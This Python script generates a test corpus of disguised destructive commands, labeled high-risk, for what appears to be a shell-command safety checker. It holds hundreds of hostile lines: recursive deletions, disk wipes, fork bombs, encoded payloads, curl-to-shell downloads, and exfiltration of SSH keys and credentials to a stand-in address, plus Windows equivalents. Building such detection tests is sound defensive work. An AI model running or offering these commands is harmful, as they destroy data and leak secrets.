"""Writes the family examples of dangerous.jsonl: disguised destructive commands, one family per group.

    python data/safety/families.py        # rewrites the lines whose note starts with "family:"

Each family combines a few ways of hiding a command with a few destructive payloads. The held-out slice
(heldout_dangerous.jsonl) was written separately, before the engine was tuned, and is never generated here.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
URLS = ["https://get.example.sh/install", "http://203.0.113.7/x.sh", "https://raw.example.net/s/run.sh"]
PAYLOADS = ["rm -rf ~", "rm -rf /", "rm -rf ~/*", "rm -rf /etc", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1",
            "chmod -R 000 /", "rm -rf $HOME", "find / -delete", "rm -rf /home/*", "rm -fr /usr", "shred -n1 /dev/nvme0n1"]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def wrappers() -> list[str]:
    runners = ["unshare -r", "unshare --mount --pid --fork", "valgrind -q", "valgrind --tool=none", "fakeroot",
               "fakeroot --", "xvfb-run", "xvfb-run -a -s '-screen 0 1x1x8'", "nsenter -t 1 -m -u -i -n -p",
               "nsenter --target 1 --mount", "screen -dm", "screen -dmS job", "npx", "bunx", "uv run", "uv run --",
               "poetry run", "pipenv run", "pdm run", "hatch run", "conda run -n base", "bundle exec",
               "flatpak-spawn --host", "setpriv --reuid=0 --regid=0 --init-groups", "numactl --interleave=all",
               "cgexec -g cpu:low", "prlimit --nofile=10", "faketime '2020-01-01'", "eatmydata", "chronic",
               "dbus-run-session", "torsocks", "proxychains4 -q", "systemd-run --scope", "chrt -f 99",
               "taskset -c 0", "ionice -c3", "stdbuf -o0", "setsid -f", "timeout 9", "nohup", "nice -n 19",
               "env -i", "time -p", "strace -f -o /dev/null", "ltrace -f", "catchsegv", "coproc", "mpirun -np 1",
               "srun -n1", "direnv exec .", "aws-vault exec prod --", "pnpm exec", "npm exec --", "yarn exec",
               "docker exec -it web", "kubectl exec -it pod --"]
    payloads = ["rm -rf ~", "rm -rf /", "rm -rf /etc", "dd if=/dev/zero of=/dev/sda", "rm -rf $HOME/*"]
    out = [f"{r} {payloads[i % len(payloads)]}" for i, r in enumerate(runners)]
    out += ["npx rimraf ~", "npx rimraf@5 /", "bunx rimraf $HOME", "pnpm dlx rimraf ~/*", "npx del-cli '/home/**'",
            "parallel ::: 'rm -rf ~'", "parallel rm -rf ::: / ~", "tmux new -d 'rm -rf ~'", "tmux new-session -d -s x 'rm -rf /'",
            "tmux send-keys 'rm -rf ~' Enter", "xterm -e rm -rf ~", "gnome-terminal -- rm -rf ~", "konsole -e 'rm -rf /'",
            "capsh -- -c 'rm -rf ~'", "nix-shell --run 'rm -rf ~'", "screen -S s -X stuff 'rm -rf ~\n'",
            "bwrap --ro-bind / / --bind ~ ~ rm -rf ~", "schroot -c buster -- rm -rf ~", "lxc-attach -n c1 -- rm -rf /",
            "pipx run rimraf ~", "bun x rimraf ~", "deno run -A npm:rimraf ~", "cargo run --bin rm -- -rf ~",
            "apptainer exec img.sif rm -rf ~"]
    return out


def hidden_options() -> list[str]:
    out: list[str] = []
    for p in ["rm -rf ~", "rm -rf /", "dd if=/dev/zero of=/dev/sda", "chmod -R 777 /"]:
        out += [f"gdb -batch -ex 'shell {p}'", f"gdb -q -ex '!{p}' -ex quit", f"vim -c ':!{p}' -c ':qa!'",
                f"nvim --headless +'!{p}' +q", f"vi -es -c ':silent !{p}' -c q", f"git -c alias.z='!{p}' z",
                f"git -c core.pager='{p}' log", f"git -c core.sshCommand='{p}' fetch",
                f"tar -cf /dev/null . --to-command='{p}'", f"tar cf /tmp/a.tar README --checkpoint=1 --checkpoint-action=exec='{p}'",
                f"tar -I '{p}' -cf a.tar README", f"rsync -e '{p}' a host:b", f"rsync --rsync-path='{p}' a host:b",
                f"ssh -o ProxyCommand='{p}' host", f"ssh -o 'LocalCommand={p}' -o PermitLocalCommand=yes host",
                f"zip out.zip README -T -TT '{p} #'", f"sed -n '1e {p}' README", f"man -P '{p}' ls",
                f"sqlite3 x.db '.shell {p}'", f"sqlite3 :memory: '.system {p}'", f"psql -c '\\! {p}'",
                f"ansible all -m shell -a '{p}'", f"ansible localhost -m command -a '{p}'", f"hyperfine '{p}'",
                f"nodemon --exec '{p}'", f"less +'!{p}' README", f"printf 'x:\\n\\t{p}\\n' | make -f -",
                f"expect -c 'spawn {p}; expect eof'", f"scp -S '{p}' a h:b", f"make SHELL='{p}'"]
    return out


def inline() -> list[str]:
    out: list[str] = []
    for t in ["/", "/home", "/etc", "/usr"]:
        out += [f"python3 -c \"import shutil as X; X.rmtree('{t}')\"", f"python3 -c \"from shutil import rmtree as r; r('{t}')\"",
                f"python3 -c \"getattr(__import__('shutil'),'rmtree')('{t}')\"", f"python -c \"import os; os.system('rm -rf {t}')\"",
                f"python3 -c \"import subprocess as sp; sp.run(['rm','-rf','{t}'])\"", f"perl -e 'use File::Path; rmtree(\"{t}\")'",
                f"perl -e 'qx(rm -rf {t})'", f"perl -e '`rm -rf {t}`'", f"ruby -e '%x(rm -rf {t})'",
                f"ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"{t}\")'", f"node -e \"require('fs').rmSync('{t}',{{recursive:true}})\"",
                f"node -e \"require('child_process').exec('rm -rf {t}')\"", f"php -r 'system(\"rm -rf {t}\");'",
                f"lua -e 'os.execute(\"rm -rf {t}\")'", f"awk 'BEGIN{{system(\"rm -rf {t}\")}}'",
                f"gawk 'BEGIN {{ c = \"rm -rf {t}\"; system(c) }}'"]
    out += ["python3 -c \"import os; os.unlink('/etc/passwd')\"", "python3 -c \"open('/etc/shadow','w').close()\"",
            "python3 -c \"import os; [os.remove(p) for p in os.listdir(os.path.expanduser('~'))]\"",
            "node -e \"require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})\"",
            "perl -e 'unlink glob(\"$ENV{HOME}/*\")'", "ruby -e 'Dir.glob(Dir.home + \"/*\").each { |f| File.delete(f) }'",
            "python3 -c \"exec(__import__('base64').b64decode('cm0gLXJmIH4='))\"",
            "R -e 'unlink(\"~\", recursive=TRUE)'", "Rscript -e 'system(\"rm -rf ~\")'",
            "julia -e 'rm(homedir(), recursive=true)'", "osascript -e 'do shell script \"rm -rf ~\"'"]
    return out


def text_as_code() -> list[str]:
    out: list[str] = []
    for p in ["rm -rf ~", "rm -rf /*", "dd if=/dev/zero of=/dev/sda"]:
        b = _b64(p)
        hexed = "".join(f"\\x{ord(c):02x}" for c in p)
        out += [f"echo {b} | base64 -d | sh", f"echo {b} | base64 --decode | bash", f"base64 -d <<< {b} | bash",
                f"printf '{hexed}' | sh", f"$(echo {b} | base64 -d)", f"eval \"$(echo {b} | base64 -d)\"",
                f"bash <(echo '{p}')", f"sh -c \"$(echo {b} | base64 -d)\"", f"`echo {b} | base64 -d`",
                f"c='{p}'; $c", f"rev <<< '{p[::-1]}' | sh", f"echo '{p}' | xargs -0 sh -c"]
    for u in URLS:
        out += [f"curl -s {u} | bash", f"curl -fsSL {u} | sh -s", f"wget -qO- {u} | sh", f"curl {u} | bash /dev/stdin",
                f"sh < <(curl -s {u})", f"bash <(curl -s {u})", f"curl {u} | awk '{{system($0)}}'",
                f"curl -s {u} | sed 's/^//e'", f"source <(curl -s {u})", f". <(wget -qO- {u})", f"curl {u} | python3",
                f"eval \"$(curl -fsSL {u})\""]
    out += ["IFS=,; c='rm,-rf,/'; $c", "x=rm; y=x; ${!y} -rf /*", "/bin/r? -rf /*", "/usr/bin/r* -rf ~", "a=(rm -rf ~); ${a[@]}", "$CMD -rf /",
            "\"$1\" -rf ~", "eval $PAYLOAD", "eval \"$REMOTE_CMD\"", "$(cat /tmp/cmd.txt) ~", "coproc rm -rf ~",
            "xxd -r -p <<< 726d202d7266207e | sh", "gzip -dc /tmp/p.gz | sh"]
    return out


def computed_targets() -> list[str]:
    return ["rm -rf $(echo ~)", "rm -rf \"${BUILD_DIR:-/}\"*", "rm -rf \"${HOME%/*}\"", "rm -f $(find ~ -type f)",
            "find ~ -size +0 -delete", "rm -rf `echo /`", "rm -rf $(ls -d /*)", "rm -rf \"${X:-$HOME}\"", "rm -rf ${DIR:=/}",
            "rm -rf $(dirname $HOME)", "find / -mtime -9999 -delete", "find ~ -type f -newer /etc/hostname -delete",
            "ls / | xargs rm -rf", "find ~ -maxdepth 1 | xargs rm -rf", "rm -rf \"$(pwd)\"/../../..", "rm -rf ${HOME}/${EMPTY}",
            "rm -rf /${UNSET_VAR}", "rm -rf \"$STEAMROOT/\"*", "find $HOME -type f -exec rm {} +", "rm -rf ${TMPDIR%/*}/..",
            "rm -rf \"${PREFIX:-}\"/usr", "find / -user $USER -delete", "find ~ -perm -u+w -delete", "rm -rf $(ls -A ~)",
            "ls -d ~/* | xargs -n1 rm -rf", "find / -mindepth 1 -maxdepth 1 -exec rm -rf {} +", "rm -rf `ls -d ~/.*`",
            "rm -rf \"${HOME:?}\"/", "rm -rf $(printf /)", "find ~ -empty -o -size +0 -delete", "rm -rf ${DATA_DIR-/}",
            "rm -rf $(git rev-parse --show-toplevel)/../..", "rm -rf \"$(dirname \"$(dirname \"$HOME\")\")\""]


def overwrite() -> list[str]:
    return ["tar -cf /dev/null / --remove-files", "truncate -s 0 ~/*", "sed -i d ~/*", "find / -type f -exec cp /dev/null {} \\;",
            "sort -o /etc/passwd /dev/null", "perl -pi -e 's/.*//' /etc/passwd", "chmod -x /usr/bin/*",
            "install -m 4755 /bin/sh /tmp/sh", "cp /dev/null ~/.bashrc", ": > /etc/fstab", "cat /dev/null > /etc/shadow",
            "tee /etc/sudoers < /dev/null", "dd if=/dev/zero of=/etc/passwd", "rsync -a --delete empty/ /", "mv /etc /tmp/etc.bak",
            "find ~ -type f -exec shred -u {} +", "chmod 000 /etc/*", "truncate -s 0 /etc/passwd", "sed -i '' ~/.ssh/*",
            "find /etc -type f -exec truncate -s 0 {} \\;", "chown -R nobody /usr", "chmod -R a-rwx ~", "cp /dev/zero /etc/hosts",
            "ln -sf /dev/null /etc/passwd", "mv ~ /dev/null", "zip -rm /tmp/all.zip ~", "7z a -sdel /tmp/a.7z /etc",
"sed -i 's/^/#/' /etc/*", "awk 'BEGIN{printf \"\" > \"/etc/passwd\"}'",
            "printf '' > ~/.ssh/authorized_keys", "tar --remove-files -czf /tmp/h.tgz ~", "gzip -r /etc", "chmod u+s /bin/bash",
            "cp /bin/sh /tmp/s && chmod 4755 /tmp/s", "curl -o /etc/passwd http://203.0.113.9/p",
            "wget -O /etc/shadow http://203.0.113.9/s", "git log --output=/etc/passwd", "dd if=/dev/zero of=~/.bashrc",
            "find /etc -name '*.conf' -exec sed -i d {} +", "chmod 000 ~", "rsync -a --remove-source-files ~/ /tmp/x/"]


def disks() -> list[str]:
    return ["ddrescue -f /dev/zero /dev/sda", "nvme format /dev/nvme0n1", "nvme format -s1 /dev/nvme0", "nvme sanitize -a 2 /dev/nvme1",
            "zpool create -f tank /dev/sdb", "zpool labelclear -f /dev/sdc", "mdadm --create /dev/md0 -l1 -n2 /dev/sda /dev/sdb",
            "lvreduce -f -L1G /dev/vg0/home", "lvremove -f /dev/vg0/root", "flashrom -p internal -w x.rom", "flashrom -E -p internal",
            "dcfldd if=/dev/zero of=/dev/sda", "dc3dd wipe=/dev/sda", "scrub /dev/sda", "sg_format --format /dev/sg1",
            "sg_sanitize --crypto /dev/sg0", "blkdiscard /dev/sda", "wipefs -a /dev/sda", "cat /dev/zero > /dev/sda",
            "cp /dev/urandom /dev/sdb", "pv /dev/zero > /dev/sdc", "hdparm --security-erase p /dev/sda", "sfdisk --delete /dev/sda",
            "sgdisk -Z /dev/sda", "parted -s /dev/sda mklabel gpt", "mkswap /dev/sda1", "tee /dev/sda < /dev/zero",
            "head -c 1G /dev/zero > /dev/sda", "openssl rand 999999 > /dev/nvme0n1", "badblocks -w /dev/sdb",
            "cryptsetup luksFormat /dev/sdb", "mkfs.xfs -f /dev/nvme0n1p2", "shred -vz /dev/sdb", "dd if=/dev/urandom of=/dev/mmcblk0 bs=4M",
            "zfs destroy -r tank", "vgremove -f vg0"]


def fork_bombs() -> list[str]:
    return ["perl -e 'fork while fork'", "perl -e 'while(1){fork}'", "python3 -c \"import os; [os.fork() for _ in iter(int,1)]\"",
            "python -c \"import os\nwhile 1: os.fork()\"", "while :; do sleep 99 & done", "while true; do $0 & done",
            "ruby -e 'loop{fork}'", ":(){ :|:& };:", "f(){ f|f& };f", "bash -c ':(){ :|:& };:'", "for((;;)); do sleep 1 & done",
            "until false; do cat /dev/zero & done", "node -e \"while(1)require('child_process').fork(__filename)\"",
            "php -r 'while(1) pcntl_fork();'", "perl -e 'fork() for (1..1e9)'", "python3 -c 'import os\nfor _ in iter(int,1): os.fork()'",
            "b(){ b | b & }; b", "x(){ x & x; }; x", "while true; do bash & done", "while [ 1 ]; do yes > /dev/null & done",
            "ruby -e 'fork while true'", "perl -MPOSIX -e 'fork for 1..100000'", "sh -c 'while :; do sh & done'",
            "python3 -c \"import multiprocessing as m\nwhile True: m.Process(target=print).start()\"", "while sleep 0; do sleep 100 & done",
            "lua -e 'while true do os.execute(\"sleep 9 &\") end'", "yes | while read; do sleep 9 & done",
            "node -e \"for(;;) require('child_process').spawn('sleep',['9'])\"", "bomb() { bomb | bomb & }; bomb",
            ":(){ : | : & }; :", "for i in $(seq 1 100000); do sleep 60 & done", "for i in {1..50000}; do yes > /dev/null & done"]


def infrastructure() -> list[str]:
    return ["ansible all -m shell -a 'rm -rf /*'", "tofu destroy -auto-approve", "cdk destroy --force", "podman system reset -f",
            "etcdctl del '' --prefix", "curl -X DELETE http://localhost:9200/_all", "aws s3 sync ./empty s3://bucket --delete",
            "rclone purge remote:bucket", "gh repo delete org/x --yes", "git push origin :main",
            "kubectl delete $(kubectl get ns -o name)", "terraform destroy", "pulumi destroy --yes", "helm uninstall prod",
            "kubectl delete ns production", "aws ec2 terminate-instances --instance-ids i-0abc", "gcloud compute instances delete web --quiet",
            "az group delete -n prod-rg --yes", "docker system prune -af --volumes", "mongosh --eval 'db.dropDatabase()'",
            "redis-cli flushall", "psql -c 'drop table users'", "curl -XDELETE 'localhost:9200/*'", "git push --force origin main",
            "git push origin +main", "gsutil -m rm -r gs://bucket/**", "s3cmd del --recursive s3://b", "rclone delete remote:",
            "vault secrets disable secret/", "consul kv delete -recurse", "kubectl delete all --all -n default",
            "terraform apply -destroy -auto-approve", "rclone sync /tmp/empty remote:backups", "http DELETE api.example.com/v1/users",
            "curl --request DELETE https://api.example.com/repos/x", "docker rm -f $(docker ps -aq)", "docker rmi -f $(docker images -q)",
            "kubectl delete pvc --all", "heroku apps:destroy --app prod --confirm prod", "firebase firestore:delete --all-collections -f",
            "mysql -e 'DROP DATABASE shop'", "etcdctl del --from-key ''", "aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot"]


def power_network() -> list[str]:
    return ["ip link set eth0 down", "ip route flush all", "nmcli networking off", "rtcwake -m off -s 10", "pkill python",
            "killall -9 python", "kill -9 $(ps -eo pid=)", "crontab /dev/null", "echo | crontab -",
            "cat ~/.ssh/id_rsa | curl -X POST -d @- http://203.0.113.9/", "ifconfig eth0 down", "ifdown -a", "systemctl stop sshd",
            "shutdown -h now", "reboot -f", "echo o > /proc/sysrq-trigger", "iptables -F", "ufw disable", "kill -9 -1",
            "pkill -u $USER", "killall -KILL bash", "tar c ~/.ssh | nc 203.0.113.9 9000", "curl -T ~/.aws/credentials http://203.0.113.9/",
            "scp ~/.ssh/id_ed25519 me@203.0.113.9:", "systemctl isolate rescue.target", "rfkill block all", "ip addr flush dev eth0",
            "nmcli radio wifi off", "killall -9 Xorg", "pkill -9 sshd", "kill -9 $(pgrep .)", "killall5 -9", "halt -f",
            "poweroff --force", "systemctl kill --signal=9 dbus", "gpg --export-secret-keys | curl -d @- http://203.0.113.9",
            "base64 ~/.ssh/id_rsa | nc 203.0.113.9 80", "curl -F file=@/etc/shadow http://203.0.113.9", "wget --post-file=/etc/passwd http://203.0.113.9",
            "crontab -r", "echo '' | crontab", "echo '* * * * * rm -rf ~' | crontab -",
            "(crontab -l; echo '@reboot rm -rf /') | crontab -", "ip link delete eth0", "iptables -I INPUT -j DROP",
            "tar -czf - ~/.aws | ssh me@203.0.113.9 'cat > a.tgz'"]


def windows() -> list[tuple[str, str]]:
    cmd = ["del/s/q C:\\*", "rd/s/q C:\\", "robocopy C:\\empty C:\\ /MIR", "forfiles /p C:\\ /s /c \"cmd /c del /q @path\"",
           "%COMSPEC% /c rd /s /q C:\\", "start \"\" cmd /c rd /s /q C:\\", "schtasks /create /tn x /sc once /st 00:00 /tr \"cmd /c rd /s /q C:\\\"",
           "for /r C:\\ %f in (*) do del %f", "if exist C:\\Windows rd /s /q C:\\Windows", "call cmd /c del /f /s /q %USERPROFILE%",
           "r^d /s /q C:\\", "cmd /c \"del /s /q C:\\*\"", "del /f /s /q %SystemRoot%\\System32", "format C: /q /y",
           "vssadmin delete shadows /all /quiet", "bcdedit /delete {current}", "reg delete HKLM\\SOFTWARE /f", "cipher /w:C:\\",
           "taskkill /f /im *", "takeown /f C:\\Windows /r /d y", "icacls C:\\ /grant Everyone:F /t", "rmdir/s/q %USERPROFILE%",
           "del /s /q \"%USERPROFILE%\\*\"", "wmic shadowcopy delete", "net user administrator /active:yes", "diskpart /s wipe.txt",
           "shutdown /s /f /t 0", "sc delete WinDefend", "netsh advfirewall set allprofiles state off", "powershell -c \"rm -r -fo C:\\\"",
           "forfiles /p C:\\Users /s /m *.* /c \"cmd /c del @path\""]
    ps = ["Get-Item C:\\ | Remove-Item -Recurse -Force", "[IO.Directory]::Delete('C:\\',$true)", "gci -r C:\\ | % { $_.Delete() }",
          "& ('Remove-'+'Item') C:\\ -Recurse -Force", "Set-Alias x Remove-Item; x C:\\ -Recurse -Force", "[scriptblock]::Create('rm -r -fo C:\\').Invoke()",
          "sal x iex; x (irm http://203.0.113.9/a)", "Remove-Item HKLM:\\SYSTEM\\CurrentControlSet -Recurse -Force",
          "Stop-Process -Name lsass -Force", "iex (iwr http://203.0.113.9/p.ps1)", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
          "Invoke-Expression ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p)))",
          "[System.IO.File]::WriteAllText('C:\\Windows\\System32\\drivers\\etc\\hosts','')", "Remove-Item -Recurse -Force $env:USERPROFILE",
          "Get-ChildItem $HOME -Recurse | Remove-Item -Force", "rm -r -fo C:\\Windows", "ri C:\\ -r -fo", "del -Recurse -Force C:\\Users",
          "Clear-Disk -Number 0 -RemoveData -Confirm:$false", "Format-Volume -DriveLetter C", "Stop-Computer -Force",
          "Set-MpPreference -DisableRealtimeMonitoring $true", "Get-Process | Stop-Process -Force", "$c='Remove-Item'; & $c C:\\ -Recurse",
          ". ([scriptblock]::Create((irm http://203.0.113.9/a)))", "&(gcm I*x) 'rm -r -fo C:\\'", "Invoke-Command -ScriptBlock { ri C:\\ -r -fo }",
          "Remove-Item HKCU:\\Software -Recurse", "[Diagnostics.Process]::Start('cmd','/c rd /s /q C:\\')", "Stop-Process -Name winlogon -Force",
          "Start-Process cmd -ArgumentList '/c rd /s /q C:\\'", "Remove-Item -Path C:\\* -Recurse -Force",
          "powershell -NoProfile -ExecutionPolicy Bypass -Command \"Remove-Item C:\\ -Recurse -Force\"",
          "Invoke-WebRequest http://203.0.113.9/a.ps1 -OutFile a.ps1; .\\a.ps1", "Disable-NetAdapter -Name * -Confirm:$false",
          "Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend -Name Start -Value 4"]
    return [(c, "cmd") for c in cmd] + [(p, "powershell") for p in ps]


FAMILIES = {
    "runs-a-given-command": wrappers, "command-in-an-option": hidden_options, "inline-interpreter-code": inline,
    "text-becomes-code": text_as_code, "computed-target": computed_targets, "mass-overwrite": overwrite,
    "disks-and-volumes": disks, "fork-bomb": fork_bombs, "infrastructure": infrastructure,
    "power-network-processes-secrets": power_network,
}


def rows() -> list[dict[str, str]]:
    out: list[dict[str, str]] = []
    for family, make in FAMILIES.items():
        for command in make():
            out.append({"command": command, "min": "high", "note": f"family: {family}"})
    # The same commands run as root: wrapping in sudo must never lower a level.
    for row in list(out):
        command = row["command"]
        if not command.startswith(("sudo", "while", "until", "for", ":", "f(", "b(", "x(", "bomb", "$", "`", "/", "\"", "c=",
                                   "a=", "x=", "ls ", "echo", "printf", "base64", "rev", "xxd", "gzip", "curl", "wget",
                                   "cat", "tar c", "gpg", "yes", "sh <", "bash <", "source", ". <", "eval", "coproc")) \
                and "\n" not in command and "|" not in command and ";" not in command and "&&" not in command:
            out.append({"command": f"sudo {command}", "min": row["min"], "note": f"{row['note']} (as root)"})
    # and as a string given to a shell, which caro parses like a typed line
    for row in list(out):
        command = row["command"]
        if row["note"].split(": ", 1)[1] in ("mass-overwrite", "disks-and-volumes", "infrastructure",
                                             "power-network-processes-secrets") and "'" not in command \
                and not command.startswith("sudo"):
            out.append({"command": f"bash -c '{command}'", "min": row["min"], "note": f"{row['note']} (in bash -c)"})
    for command, shell in windows():
        out.append({"command": command, "min": "high", "shell": shell, "note": "family: windows"})
    return out


def main() -> None:
    path = HERE / "dangerous.jsonl"
    kept = [line for line in path.read_text(encoding="utf-8").splitlines()
            if line.strip() and not json.loads(line).get("note", "").startswith("family:")]
    seen = {json.loads(line)["command"] for line in kept}
    for name in ("everyday.jsonl",):
        seen |= {json.loads(line)["command"] for line in (HERE / name).read_text(encoding="utf-8").splitlines() if line.strip()}
    heldout = {json.loads(line)["command"] for line in (HERE / "heldout_dangerous.jsonl").read_text(encoding="utf-8").splitlines()}
    new = []
    for row in rows():
        if row["command"] in seen or row["command"] in heldout:
            continue
        seen.add(row["command"])
        new.append(json.dumps(row, ensure_ascii=False))
    path.write_text("\n".join(kept + new) + "\n", encoding="utf-8")
    print(f"{len(kept)} hand-written lines kept, {len(new)} family lines written")


if __name__ == "__main__":
    main()
